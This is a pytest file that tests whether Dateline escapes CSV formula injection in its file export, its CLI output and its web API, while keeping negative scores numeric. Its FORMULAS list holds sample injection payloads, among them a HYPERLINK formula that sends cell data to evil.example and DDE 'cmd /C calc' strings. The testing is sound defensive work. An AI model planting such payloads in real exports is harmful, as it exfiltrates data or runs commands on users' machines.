"""CSV injection (issue 17): a stored text that starts a spreadsheet formula is escaped with a
leading ' in every CSV Dateline writes (export, `dateline events -f csv`, /api/events.csv);
negative numbers such as a Goldstein score stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import io
import warnings

import pytest
from typer.testing import CliRunner

from dateline.cli import app
from dateline.csvcells import escape_formula
from dateline.store import Store
from test_store_builders import event, make_result

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1"]  # fmt: skip


def hostile_result():
    result = make_result("f1", [event("USA", "ACCUSE", "RUS", "2024-03-01")], source=FORMULAS[2])
    article = dataclasses.replace(result.article, title=FORMULAS[0], url=FORMULAS[1])
    return dataclasses.replace(result, article=article)


@pytest.fixture
def db_path(tmp_path):
    path = tmp_path / "f.duckdb"
    with Store(path) as s:
        assert s.add_result(hostile_result())
    return path


def assert_defused(text: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells), cells
    for cell in cells:
        if cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not _number(cell)):
            pytest.fail(f"formula cell left live: {cell!r}")
    assert "-2.0" in cells or "-2" in cells  # the Goldstein score stays a number


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_escape_formula_keeps_numbers_and_plain_text():
    assert [escape_formula(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert [escape_formula(v) for v in ["-2.5", "-7", "Kyiv", "", None, -3.0]] == [
        "-2.5", "-7", "Kyiv", "", None, -3.0,
    ]  # fmt: skip


def test_export_csv_is_escaped(db_path, tmp_path):
    out = tmp_path / "e.csv"
    with Store(db_path, read_only=True) as s:
        assert s.export(out, "csv") == 1
    assert_defused(out.read_text(encoding="utf-8"))


def test_events_command_csv_is_escaped(db_path):
    res = CliRunner().invoke(app, ["events", "--db", str(db_path), "--format", "csv"])
    assert res.exit_code == 0, res.output
    assert_defused(res.output)


def test_api_events_csv_is_escaped(db_path):
    pytest.importorskip("fastapi")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from fastapi.testclient import TestClient
    from dateline.web import create_app

    with (
        Store(db_path, read_only=True) as s,
        TestClient(create_app(s), base_url="http://localhost") as client,
    ):
        response = client.get("/api/events.csv")
        assert response.status_code == 200
        assert_defused(response.text)
